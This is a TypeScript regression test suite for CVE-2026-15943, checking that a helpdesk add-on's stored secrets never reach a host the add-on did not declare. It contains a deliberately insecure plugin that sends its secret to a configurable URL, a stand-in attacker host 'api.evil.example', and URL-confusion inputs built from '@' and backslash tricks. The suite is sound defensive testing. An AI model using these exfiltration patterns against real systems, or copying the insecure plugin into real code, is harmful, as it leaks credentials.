// Where a stored secret can be sent. CVE-2026-15943: a masked secret went to an address that somebody had changed.
import { createServer } from "node:http";
import type { AddressInfo } from "node:net";
import { expect, onTestFinished, test } from "vitest";
import settingsSchema from "../../settings-schema.json" with { type: "json" };
import { approveAtX } from "../../src/testing/fake-x/fake-visitor.ts";
import { tinyZip } from "../kit/artifact/plugin-versions.ts";
import { HttpVisitor } from "../kit/helpdesk/http-visitor.ts";
import { ADD_ONS, install, upload } from "../kit/helpdesk/install-add-on.ts";
import { openHelpdesk, setUpX } from "../kit/helpdesk/open-helpdesk.ts";
import { INTEGRATIONS, press } from "../kit/helpdesk/people-with-x.ts";
import { APP_KEYS } from "../kit/plugin/open-house.ts";
import { PROTOCOLS } from "../kit/plugin/protocols.ts";

const SECRET = "canary-of-the-administrator";
const TINY = `${INTEGRATIONS}/tiny`;
const X = `${INTEGRATIONS}/x-login`;
const OURS = "api.tiny.example";
const THEIRS = "api.evil.example";

/** A server that remembers what it is sent. */
async function openTrap() {
	const sent: string[] = [];
	const server = createServer((request, response) => {
		sent.push(`${request.url} ${JSON.stringify(request.headers)}`);
		response.end("{}");
	});
	await new Promise<void>((resolve) => server.listen(0, "127.0.0.1", resolve));
	onTestFinished(() => new Promise<void>((resolve) => void server.close(() => resolve())));
	return { url: `http://127.0.0.1:${(server.address() as AddressInfo).port}`, sent };
}

/** A plugin that sends its secret to the address in the setting `word`, as careless ones do. */
function carelessZip(version: string, network: readonly string[]): Uint8Array {
	const startLogin = `const { values } = await host.settings.read(given.brandId);
		const key = await host.secrets.get(given.brandId, "key");
		let said = "sent";
		try {
			const headers = { authorization: key === undefined ? "none" : key.reveal() };
			await host.http.send({ method: "GET", url: values.word, headers, timeoutMs: 5000, maxBytes: 1000 });
		} catch (error) {
			said = error.name;
		}
		return { kind: "page", page: { status: 200, title: "Tiny", html: "<p>It was " + said + ".</p>" } };`;
	const renderLoginButtons = `const { startPath } = await host.brands.find(given.brandId);
		return [{ id: "tiny", label: "Log in with Tiny", intent: "log-in", action: startPath, method: "post", fields: {}, order: 0, icon: "", html: \`<form method="post" action="\${startPath}"><button type="submit">Log in with Tiny</button></form>\` }];`;
	const ports = ["settings", "secrets"] as const;
	const properties = { word: { type: "string" }, key: { type: "string", writeOnly: true } };
	const texts = Object.keys(properties).flatMap((name) => [
		[`settings.${name}.label`, name],
		[`settings.${name}.help`, name],
	]);
	return tinyZip(
		{ onActivate: 'return { state: "ready" };', renderLoginButtons, startLogin },
		{ version, capabilities: { network, navigation: [], ports } },
		{
			"settings.json": JSON.stringify({
				$schema: "https://json-schema.org/draft/2020-12/schema",
				type: "object",
				additionalProperties: false,
				properties,
			}),
			"locales/en.json": JSON.stringify({ about: "A {thing}", ...Object.fromEntries(texts) }),
		},
	);
}

async function openCareless() {
	const [ours, theirs] = [await openTrap(), await openTrap()];
	const origins = { [OURS]: ours.url, [THEIRS]: theirs.url };
	const open = await openHelpdesk({ origins });
	const { operator, portal } = open;
	await install(operator, portal, carelessZip("1.0.0", [OURS]));
	await press(open, `${TINY}/activate`);
	const save = async (fields: Readonly<Record<string, string>>) => {
		await operator.open(`${portal}${TINY}?brand=acorn`);
		return operator.submit(`${TINY}?brand=acorn`, fields);
	};
	await save({ word: ours.url, key: SECRET });
	await operator.open(`${portal}/admin/settings/users/social-login/tiny`);
	await operator.submit("/admin/settings/users/social-login/tiny", { acorn: "on" });
	const logIn = async () => {
		const visitor = new HttpVisitor();
		await visitor.open(`${portal}/login`);
		return (await visitor.submit("/login/tiny/start")).html;
	};
	return { ...open, ours, theirs, save, logIn };
}

test.each(PROTOCOLS)(
	"CVE-2026-15943: the secret of X under %s goes to X's address, whatever an administrator saves",
	async (_, x) => {
		const trap = await openTrap();
		const open = await openHelpdesk();
		await setUpX(open, x.protocol);
		const { operator, portal, fakeX } = open;
		const addresses = [
			...["baseUrl", "xBaseUrl", "apiUrl", "url", "host", "origin", "endpoint", "proxy"],
			...["callbackUrl", "tokenUrl", "authorizeUrl", "network", "capabilities", "origins"],
		];
		const made = Object.fromEntries(addresses.map((name) => [name, trap.url]));

		// The stored secrets stay: their fields are left empty.
		const { apiKeySecret: _1, clientSecret: _2, ...others } = settingsSchema.properties;
		for (const name of Object.keys(others)) {
			await operator.open(`${portal}${X}?brand=acorn`);
			await operator.submit(`${X}?brand=acorn`, { [name]: trap.url, ...made });
		}
		await operator.open(`${portal}${X}?brand=acorn`);
		await operator.submit(`${X}?brand=acorn`, {
			...{ protocol: x.protocol, apiKey: APP_KEYS.apiKey, clientId: APP_KEYS.clientId },
			...made,
			action: "save-and-test",
		});
		await operator.open(`${portal}${X}?brand=acorn`);
		fakeX.resetStats();
		await operator.submit(`${X}/test?brand=acorn`, made);
		const visitor = new HttpVisitor();
		await visitor.open(`${portal}/login`);
		const toX = await visitor.submit("/login/x-login/start", made);

		expect(toX.url.startsWith(fakeX.url)).toBe(true);
		await visitor.open(await approveAtX(toX.url));
		// One of them tests the connection.
		const calls = {
			oauth1: { request_token: 2, access_token: 1 },
			oauth2: { oauth2_token: 2, users_me: 1 },
		}[x.protocol];
		expect(fakeX.stats().calls).toMatchObject(calls);
		expect(trap.sent).toEqual([]);
	},
);

test("CVE-2026-15943: a setting that holds an address sends a stored secret to no host that the add-on does not declare", async () => {
	const { ours, theirs, save, logIn } = await openCareless();
	expect(await logIn()).toContain("It was sent.");
	expect(ours.sent.join()).toContain(SECRET);

	const [our, their] = [new URL(ours.url).host, new URL(theirs.url).host];
	for (const word of [
		theirs.url,
		`${theirs.url}/${our}`,
		`${theirs.url}#@${our}`,
		`http://${our}@${their}/`,
		`http://${their}\\@${our}/`,
	]) {
		// The secret field stays empty, which keeps the stored secret.
		await save({ word });
		expect(await logIn()).not.toContain("It was sent.");
	}

	expect(theirs.sent).toEqual([]);
});

test("CVE-2026-15943: before an upgrade that adds a host, the review says that the stored secrets can go there, and none does", async () => {
	const { operator, portal, theirs, save, logIn } = await openCareless();

	const review = await upload(operator, portal, carelessZip("2.0.0", [THEIRS]));

	expect(review.html).toContain(`<strong>New:</strong> Calls from your server to ${THEIRS}.`);
	expect(review.html).toContain(
		`Secrets that are stored for Tiny stay. 2.0.0 can read them and send them to ${THEIRS}.`,
	);
	expect(await logIn()).toContain("It was sent.");
	expect(theirs.sent).toEqual([]);

	// An administrator who heeds it removes the secret first.
	await save({ word: theirs.url, "key-remove": "on" });
	await upload(operator, portal, carelessZip("2.0.0", [THEIRS]));
	expect((await operator.submit(`${ADD_ONS}/install`)).html).toContain("Tiny 2.0.0");
	await logIn();
	expect(theirs.sent.join()).toContain('"authorization":"none"');
});

test("an upgrade that adds no host says nothing about stored secrets", async () => {
	const { operator, portal } = await openCareless();

	const review = await upload(operator, portal, carelessZip("2.0.0", [OURS]));

	expect(review.html).toContain("What changes from 1.0.0");
	expect(review.html).not.toContain("Secrets that are stored");
});
